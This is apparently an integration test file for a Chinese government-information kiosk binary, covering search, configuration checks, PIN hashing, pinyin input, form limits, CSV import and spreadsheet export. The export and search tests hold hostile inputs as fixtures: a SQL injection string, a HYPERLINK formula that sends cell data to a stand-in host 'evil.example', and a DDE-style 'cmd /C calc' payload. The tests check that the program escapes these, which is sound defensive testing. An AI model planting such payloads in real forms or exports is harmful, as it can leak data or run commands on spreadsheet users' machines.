//! The real `kiosk` binary on the demo data in a temporary folder.

mod common;

use std::process::{Command, Output};

fn kiosk(config: &std::path::Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_kiosk"))
        .arg("--config")
        .arg(config)
        .args(args)
        .env_remove("DISPLAY")
        .env_remove("WAYLAND_DISPLAY")
        .output()
        .unwrap()
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

#[test]
fn index_build_reports_per_source_counts_and_search_answers_in_json() {
    let tmp = tempfile::tempdir().unwrap();
    let config = common::demo_config(&tmp.path().join("index"));
    let out = kiosk(&config, &["index", "build"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let report = text(&out.stdout);
    assert!(
        report.contains("demo-disclosure") && report.contains("demo-service-guide"),
        "{report}"
    );
    assert!(report.contains("not public"), "{report}");
    assert!(report.contains("total"), "{report}");

    let out = kiosk(
        &config,
        &["search", "最低生活保障", "--json", "--limit", "5"],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let lines: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(!lines.is_empty() && lines.len() <= 5);
    for hit in &lines {
        for key in ["id", "kind", "title", "score", "snippet", "validity"] {
            assert!(hit.get(key).is_some(), "{key} missing in {hit}");
        }
    }
    let scores: Vec<f64> = lines.iter().map(|h| h["score"].as_f64().unwrap()).collect();
    assert!(
        scores.windows(2).all(|w| w[0] >= w[1]),
        "best first: {scores:?}"
    );

    let out = kiosk(&config, &["search", "最低生活保障"]);
    assert!(
        text(&out.stdout).starts_with(" 1. "),
        "{}",
        text(&out.stdout)
    );

    // Nothing on a 游泳馆 in the demo data: it says so and offers what it has for 老年人.
    let out = kiosk(&config, &["search", "老年人游泳馆优惠"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let said = text(&out.stdout);
    assert!(
        said.contains("没有找到相关内容") && said.contains("您可以试试：老年人"),
        "{said}"
    );
}

#[test]
fn search_accepts_any_input_without_failing() {
    let tmp = tempfile::tempdir().unwrap();
    let config = common::demo_config(&tmp.path().join("index"));
    assert!(kiosk(&config, &["index", "build"]).status.success());
    let random: String = (0..500u32)
        .map(|i| char::from_u32(0x4e00 + (i * 7919) % 20000).unwrap())
        .collect();
    let inputs = [
        "",
        "   ",
        "\"((",
        "😀🙏",
        "'; DROP TABLE records; --",
        "AND OR NOT",
        "title:",
        "*?~^",
        &random,
    ];
    for q in inputs {
        let out = kiosk(&config, &["search", q]);
        assert!(out.status.success(), "{q:?}: {}", text(&out.stderr));
        assert!(!text(&out.stderr).contains("panicked"), "{q:?}");
        let out = kiosk(&config, &["search", q, "--json"]);
        assert!(out.status.success(), "{q:?}");
    }
}

#[test]
fn search_before_any_build_says_what_to_do() {
    let tmp = tempfile::tempdir().unwrap();
    let config = common::demo_config(&tmp.path().join("index"));
    let out = kiosk(&config, &["search", "养老"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("kiosk index build"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn a_config_with_an_unknown_key_is_refused_naming_the_key() {
    let tmp = tempfile::tempdir().unwrap();
    let config = common::demo_config(&tmp.path().join("index"));
    let bad = std::fs::read_to_string(&config)
        .unwrap()
        .replace("keep_generations", "keep_generation");
    std::fs::write(&config, bad).unwrap();
    let out = kiosk(&config, &["search", "养老"]);
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert!(
        err.contains("keep_generation") && err.contains("Fix:"),
        "{err}"
    );
}

#[test]
fn the_kiosk_window_without_a_display_exits_with_a_clear_message() {
    let tmp = tempfile::tempdir().unwrap();
    let config = common::demo_config(&tmp.path().join("index"));
    let out = kiosk(&config, &[]);
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert!(
        err.contains("no graphical display") && !err.contains("panicked"),
        "{err}"
    );
}

fn staff_pin(input: &str) -> std::process::Output {
    use std::io::Write;
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_kiosk"))
        .arg("staff-pin")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

#[test]
fn staff_pin_prints_a_hash_line_the_configuration_accepts_and_refuses_short_pins() {
    let out = staff_pin("73914628\n");
    assert!(out.status.success(), "{}", common::text(&out.stderr));
    let line = common::text(&out.stdout);
    assert!(line.starts_with("staff_pin_hash = \"$argon2id$"), "{line}");
    assert!(
        !line.contains("73914628"),
        "the PIN itself is never printed"
    );
    let hash = line
        .trim()
        .trim_start_matches("staff_pin_hash = \"")
        .trim_end_matches('"');
    assert!(kiosk::staff_pin::verify_pin(hash, "73914628"));
    let tmp = tempfile::tempdir().unwrap();
    let config = tmp.path().join("kiosk.toml");
    std::fs::write(
        &config,
        format!("[kiosk]\nhall_name = \"大厅\"\nindex_dir = \"i\"\n{line}"),
    )
    .unwrap();
    let settings = kiosk::config::Settings::load(&config).unwrap();
    assert_eq!(settings.screen.staff_pin_hash.as_deref(), Some(hash));

    // A PIN written into the configuration instead of its hash is refused with the fix.
    std::fs::write(
        &config,
        "[kiosk]\nhall_name = \"大厅\"\nindex_dir = \"i\"\nstaff_pin_hash = \"73914628\"\n",
    )
    .unwrap();
    let err = kiosk::config::Settings::load(&config)
        .unwrap_err()
        .to_string();
    assert!(err.contains("kiosk staff-pin"), "{err}");

    let short = staff_pin("1234\n");
    assert_eq!(short.status.code(), Some(2));
    assert!(common::text(&short.stderr).contains("6 to 12 digits"));
}

/// Issue 18 item 2: `kiosk pinyin` needs no configuration or index and prints the keyboard's
/// candidates one per line, best first.
#[test]
fn pinyin_in_name_mode_prints_zhang_san_first_without_a_configuration() {
    let tmp = tempfile::tempdir().unwrap();
    let missing = tmp.path().join("no-such-kiosk.toml");
    let out = kiosk(&missing, &["pinyin", "--names", "zhangsan"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.first(), Some(&"张三"), "{stdout}");
    assert_eq!(lines.len(), 9, "one page: {stdout}");

    let out = kiosk(&missing, &["pinyin", "--names", "wangxiuying"]);
    let stdout = text(&out.stdout);
    assert!(stdout.lines().take(3).any(|l| l == "王秀英"), "{stdout}");
    for (typed, first) in [("yanglaojin", "养老金"), ("ldht", "劳动合同")] {
        let out = kiosk(&missing, &["pinyin", typed]);
        assert_eq!(text(&out.stdout).lines().next(), Some(first), "{typed}");
    }
    let out = kiosk(&missing, &["pinyin", "--all", "xiu"]);
    assert!(text(&out.stdout).lines().count() > 9);
}

/// With `--index`, initials are read as the search reads them against the index's titles
/// (the keyboard's bar once the kiosk has its index open): `tkry` is 特困人员 of the demo
/// service guide, where the dictionary alone composes 坦克人员.
#[test]
fn pinyin_with_the_index_reads_initials_as_the_titles_do() {
    let tmp = tempfile::tempdir().unwrap();
    let config = common::demo_config(&tmp.path().join("index"));
    assert!(kiosk(&config, &["index", "build"]).status.success());
    let first = |args: &[&str]| {
        let out = kiosk(&config, args);
        assert!(out.status.success(), "{}", text(&out.stderr));
        text(&out.stdout)
            .lines()
            .next()
            .unwrap_or_default()
            .to_string()
    };
    assert_eq!(first(&["pinyin", "--index", "tkry"]), "特困人员");
    assert_ne!(first(&["pinyin", "tkry"]), "特困人员");
    // Full pinyin keeps the dictionary's reading.
    assert_eq!(first(&["pinyin", "--index", "yanglaojin"]), "养老金");
}

#[test]
fn search_refuses_a_limit_outside_1_to_200_with_a_message_instead_of_panicking() {
    let tmp = tempfile::tempdir().unwrap();
    let config = common::demo_config(&tmp.path().join("index"));
    assert!(kiosk(&config, &["index", "build"]).status.success());
    for limit in ["18446744073709551615", "0", "201", "-1"] {
        let out = kiosk(&config, &["search", "养老", "--limit", limit]);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "--limit {limit}: {err}");
        assert!(!err.contains("panicked"), "--limit {limit}: {err}");
        assert!(err.contains("--limit") && err.contains("1..=200"), "{err}");
    }
    let out = kiosk(&config, &["search", "养老", "--limit", "200", "--json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(!text(&out.stdout).is_empty());
}

/// The citizen fixture form with some fields replaced, written to `dir/name`.
fn form_with(dir: &std::path::Path, name: &str, fields: &[(&str, String)]) -> std::path::PathBuf {
    let fixture = common::repo().join("tests/fixtures/request-citizen.json");
    let mut form: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(fixture).unwrap()).unwrap();
    for (k, v) in fields {
        form[*k] = serde_json::Value::String(v.clone());
    }
    let path = dir.join(name);
    std::fs::write(&path, form.to_string()).unwrap();
    path
}

#[test]
fn a_json_form_with_an_overlong_description_is_refused_naming_the_field_and_its_limit() {
    let tmp = tempfile::tempdir().unwrap();
    let config = common::requests_config(tmp.path(), "none");
    let long = form_with(
        tmp.path(),
        "long.json",
        &[("description", "请公开".repeat(800_000))],
    );
    let out = kiosk(
        &config,
        &["requests", "submit", "--json", long.to_str().unwrap()],
    );
    assert!(!out.status.success());
    assert!(out.stdout.is_empty(), "nothing filed");
    let err = text(&out.stderr);
    assert!(
        err.contains("所需信息的内容描述：") && err.contains("不能超过2000字"),
        "{err}"
    );
    // At the limit it is filed.
    let at_limit = form_with(
        tmp.path(),
        "at-limit.json",
        &[("description", "公".repeat(2000))],
    );
    let out = kiosk(
        &config,
        &["requests", "submit", "--json", at_limit.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
}

#[test]
fn exported_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped_in_csv_and_xlsx() {
    use calamine::{open_workbook, Reader, Xlsx};
    let tmp = tempfile::tempdir().unwrap();
    let config = common::requests_config(tmp.path(), "none");
    let attack = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")";
    let form = form_with(
        tmp.path(),
        "attack.json",
        &[
            ("name", "@SUM(1+1)*cmd|' /C calc'!A0".into()),
            ("address", "+青禾县城关镇人民路1号".into()),
            ("description", attack.into()),
        ],
    );
    let out = kiosk(
        &config,
        &["requests", "submit", "--json", form.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));

    let csv = tmp.path().join("register.csv");
    let xlsx = tmp.path().join("register.xlsx");
    for (format, file) in [("csv", &csv), ("xlsx", &xlsx)] {
        let out = kiosk(
            &config,
            &[
                "requests",
                "export",
                "--format",
                format,
                "--out",
                file.to_str().unwrap(),
            ],
        );
        assert!(out.status.success(), "{}", text(&out.stderr));
    }
    let body = std::fs::read_to_string(&csv).unwrap();
    let mut rows = csv::Reader::from_reader(body.trim_start_matches('\u{FEFF}').as_bytes());
    let row = rows.records().next().unwrap().unwrap();
    assert_eq!(&row[3], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(&row[6], format!("'{attack}"));

    let mut book: Xlsx<_> = open_workbook(&xlsx).unwrap();
    let sheet = book.worksheet_range("申请登记").unwrap();
    let cell = |c: u32| sheet.get_value((1, c)).map(|v| v.to_string()).unwrap();
    assert_eq!(cell(3), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell(6), format!("'{attack}"));
    // No cell of the export starts with a formula character.
    for r in sheet.rows() {
        for v in r {
            let s = v.to_string();
            assert!(
                !s.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "unescaped cell {s:?}"
            );
        }
    }
}

/// Issue 21 item 7: a CMS's CSV export in GB18030 is read through the mapping by the real
/// binary: counted in the build report, found by its title, its 主题词 and its 索引号, with its
/// 成文日期 and 效力状态; the 不予公开 row stays out.
#[test]
fn a_gb18030_csv_export_is_imported_through_the_mapping_and_found() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    common::copy_config_data(dir);
    let export = "信息编号,标题,正文,发布机构,索引号,成文日期,效力状态,主题词,公开属性\n\
        X1,青禾县萤石矿山生态修复实施方案,为推进矿山生态修复，制定本方案。,青禾县自然资源局,QH0009/2025-00031,2025年6月3日,已废止,矿山复绿；地质灾害,主动公开\n\
        X2,青禾县砂石料场整治台账,台账,青禾县自然资源局,QH0009/2025-00032,2025年6月4日,有效,砂石,不予公开\n";
    let (bytes, _, _) = encoding_rs::GB18030.encode(export);
    std::fs::write(dir.join("export.csv"), &bytes).unwrap();
    let config = dir.join("kiosk.toml");
    std::fs::write(
        &config,
        format!(
            "[kiosk]\nhall_name = \"青禾县政务服务中心\"\nindex_dir = {:?}\n\n\
             [[sources]]\nname = \"cms\"\nkind = \"government_info\"\nformat = \"csv\"\npath = \"export.csv\"\n\n\
             [sources.mapping]\nid = \"信息编号\"\ntitle = \"标题\"\nbody = [\"正文\"]\nissuer = \"发布机构\"\n\
             index_number = \"索引号\"\nwritten_date = \"成文日期\"\nvalidity = \"效力状态\"\nkeywords = \"主题词\"\n\
             disclosure = \"公开属性\"\n",
            dir.join("index").display().to_string()
        ),
    )
    .unwrap();
    let out = kiosk(&config, &["index", "build"]);
    let report = text(&out.stdout);
    assert!(out.status.success(), "{report}{}", text(&out.stderr));
    let line = report
        .lines()
        .find(|l| l.trim_start().starts_with("cms"))
        .unwrap_or_else(|| panic!("{report}"));
    assert!(
        line.contains(" csv ") && line.contains("1 records") && line.contains("1 not public"),
        "{report}"
    );
    for q in ["萤石矿山生态修复实施方案", "矿山复绿", "QH0009/2025-00031"] {
        let out = kiosk(&config, &["search", "--json", q]);
        let hits: Vec<serde_json::Value> = text(&out.stdout)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .filter(|v: &serde_json::Value| v.get("id").is_some())
            .collect();
        assert_eq!(hits.len(), 1, "{q}: {hits:?}");
        assert_eq!(hits[0]["id"], "X1");
        assert_eq!(hits[0]["validity"], "废止");
        assert_eq!(
            hits[0]["date"], "2025-06-03",
            "the 成文日期 without a 发布日期"
        );
    }
    let out = kiosk(&config, &["search", "--json", "砂石料场整治台账"]);
    assert!(!text(&out.stdout).contains("\"X2"), "不予公开 stays out");
}
